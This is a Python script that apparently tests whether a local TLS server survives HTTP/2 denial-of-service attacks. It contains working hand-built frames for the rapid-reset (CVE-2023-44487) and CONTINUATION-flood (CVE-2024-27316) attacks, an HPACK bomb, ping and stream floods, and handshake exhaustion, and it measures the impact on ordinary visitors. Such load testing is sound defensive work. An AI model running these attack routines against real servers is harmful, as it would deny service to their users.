#!/usr/bin/env python3
"""A hostile client of HTTP/2: what a server that speaks TLS itself lets it do, and what others get meanwhile.

    http2.py --port 18443 --server PID [--seconds 6] [ATTACK...]

ATTACK is one of
    reset          streams that are opened and reset at once, as fast as they go (CVE-2023-44487)
    continuation   a header that goes on in frame after frame (CVE-2024-27316)
    headers        a header of a megabyte when unpacked, of few bytes
    pings          frames of control as fast as they go, answers not taken
    streams        1,000 streams at once in each of 10 connections, each a request that does not end
    window         a window of no bytes: answers that nobody takes
    idle           300 connections that finish the handshake and open nothing
    handshake      300 connections that never finish the handshake

The attacker has 127.0.0.3, everybody else 127.0.0.2. Frames are made by hand: libraries do not break rules. Ends with 1 where a
visitor got something else than the page, or waited too long (see hold.py).
"""
import argparse, os, socket, ssl, struct, sys, threading, time

parser = argparse.ArgumentParser()
parser.add_argument("attacks", nargs="*")
parser.add_argument("--port", type=int, default=18443)
parser.add_argument("--server", type=int, required=True)
parser.add_argument("--seconds", type=float, default=6)
options = parser.parse_args()
PREFACE = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"
DATA, HEADERS, RESET, SETTINGS, PING, GOAWAY, WINDOW, CONTINUATION = 0, 1, 3, 4, 6, 7, 8, 9


def frame(kind, flags, stream, body=b""):
    return struct.pack(">I", len(body))[1:] + bytes([kind, flags]) + struct.pack(">I", stream) + body


def text(value): return bytes([len(value)]) + value


# :method GET, :scheme https, :path /, :authority x (RFC 7541, static table).
REQUEST = bytes([0x82, 0x87, 0x84, 0x41]) + text(b"x")
POST = bytes([0x83, 0x87, 0x84, 0x41]) + text(b"x")


def secure(source, alpn=("h2",), patience=5):
    context = ssl.create_default_context()
    context.check_hostname, context.verify_mode = False, ssl.CERT_NONE
    context.set_alpn_protocols(list(alpn))
    line = socket.socket()
    line.settimeout(patience)
    line.bind((source, 0))
    line.connect(("127.0.0.1", options.port))
    return context.wrap_socket(line, server_hostname="localhost")


def connection(settings=b""):
    line = secure("127.0.0.3")
    line.sendall(PREFACE + frame(SETTINGS, 0, 0, settings))
    return line


def farewell(line, seconds=2):
    """The code of the connection's end, or of the first reset stream: None where the server goes on."""
    line.settimeout(seconds)
    rest, reset = b"", None
    try:
        while True:
            block = line.recv(65536)
            if not block: return reset if reset is not None else "closed"
            rest += block
            while len(rest) >= 9 and len(rest) >= 9 + (size := int.from_bytes(rest[:3], "big")):
                kind, body = rest[3], rest[9:9 + size]
                if kind == GOAWAY: return "goaway %d" % int.from_bytes(body[4:8], "big")
                if kind == RESET and reset is None: reset = "reset %d" % int.from_bytes(body, "big")
                rest = rest[9 + size:]
    except TimeoutError:
        return reset
    except OSError:
        return reset or "closed"


def send(line, frames):
    """How many went out before the server ended the connection."""
    count = 0
    try:
        for one in frames:
            line.sendall(one)
            count += 1
    except OSError:
        pass
    return count


def until(): return time.time() + options.seconds


def reset():
    end, ends, sent = until(), {}, 0
    while time.time() < end:
        line = connection()
        sent += send(line, (frame(HEADERS, 5, n, REQUEST) + frame(RESET, 0, n, b"\0\0\0\x08") for n in range(1, 20001, 2)))
        how = farewell(line)
        ends[how] = ends.get(how, 0) + 1
    return f"{sent} streams, ends {ends}"


def continuation():
    line = connection()
    sent = send(line, [frame(HEADERS, 1, 1, REQUEST)] + [frame(CONTINUATION, 0, 1, b"\0\1a\1b" * 1000)] * 10000)
    return f"{sent} frames, {farewell(line)}"


def headers():
    line = connection()
    # A field of 4,000 bytes goes into the table once, and is named 250 times.
    block = REQUEST + bytes([0x40]) + text(b"a") + bytes([0x7f, 0xa1, 0x1e]) + b"b" * 4000 + bytes([0xbe]) * 250
    send(line, [frame(HEADERS, 5, 1, block)])
    return farewell(line)


def pings():
    line = connection()
    end, sent = until(), 0
    line.settimeout(1)
    while time.time() < end:
        one = send(line, [frame(PING, 0, 0, b"12345678") * 100])
        sent += one * 100
        if not one: break
    return f"{sent} frames, {farewell(line)}"


def streams():
    lines = [connection() for _ in range(10)]
    for line in lines: send(line, [b"".join(frame(HEADERS, 4, n, POST) for n in range(1, 2001, 2))])
    time.sleep(options.seconds)
    ends = [farewell(line) for line in lines]
    return {how: ends.count(how) for how in ends}


def window():
    # SETTINGS_INITIAL_WINDOW_SIZE of 0.
    lines = [connection(struct.pack(">HI", 4, 0)) for _ in range(10)]
    for line in lines: send(line, [frame(HEADERS, 5, n, REQUEST) for n in range(1, 101, 2)])
    time.sleep(options.seconds)
    ends = [farewell(line, seconds=1) for line in lines]
    return {how: ends.count(how) for how in ends}


def idle():
    lines = []
    for _ in range(300):
        try: lines.append(connection())
        except OSError: pass
    time.sleep(options.seconds)
    return f"{sum(farewell(line, 0.01) is not None for line in lines)} of {len(lines)} ended"


def handshake():
    lines = []
    for _ in range(300):
        try:
            line = socket.socket()
            line.bind(("127.0.0.3", 0))
            line.connect(("127.0.0.1", options.port))
            line.send(b"\x16\x03\x01\x02\x00\x01")
            lines.append(line)
        except OSError: pass
    time.sleep(options.seconds)
    return f"{sum(farewell(line, 0.01) is not None for line in lines)} of {len(lines)} ended"


def visit(end):
    own, wrong = [], 0
    while time.time() < end:
        start = time.perf_counter()
        try:
            line = secure("127.0.0.2", alpn=("http/1.1",), patience=30)
            line.sendall(b"GET / HTTP/1.1\r\nHost: localhost\r\nConnection: close\r\n\r\n")
            if not line.recv(65536).startswith(b"HTTP/1.1 200"): wrong += 1
            line.close()
        except OSError:
            wrong += 1
        own.append((time.perf_counter() - start) * 1000)
        time.sleep(0.005)
    own.sort()
    return own, wrong


def memory():
    lines = open(f"/proc/{options.server}/status").read().splitlines()
    return round(int(next(line for line in lines if line.startswith("VmRSS")).split()[1]) / 1024)


attacks = {f.__name__: f for f in (reset, continuation, headers, pings, streams, window, idle, handshake)}
failed = False
before, _ = visit(until())
usual = before[int(len(before) * 0.99)]
print(f"before: median {before[len(before) // 2]:.1f} ms, p99 {usual:.1f} ms, {memory()} MB")
for name in options.attacks or attacks:
    told = []
    attacker = threading.Thread(target=lambda: told.append(attacks[name]()), daemon=True)
    attacker.start()
    during, wrong = visit(until())
    attacker.join(30)
    late = during[int(len(during) * 0.99)]
    print(f"{name}: {told[0] if told else 'goes on'}; others: median {during[len(during) // 2]:.1f} ms, "
          f"p99 {late:.1f} ms ({late / usual:.1f} of before), {wrong} wrong, {memory()} MB")
    if wrong or late >= 50 and late >= 2 * usual or memory() >= 200:
        print("    NOT HELD")
        failed = True
sys.exit(failed)
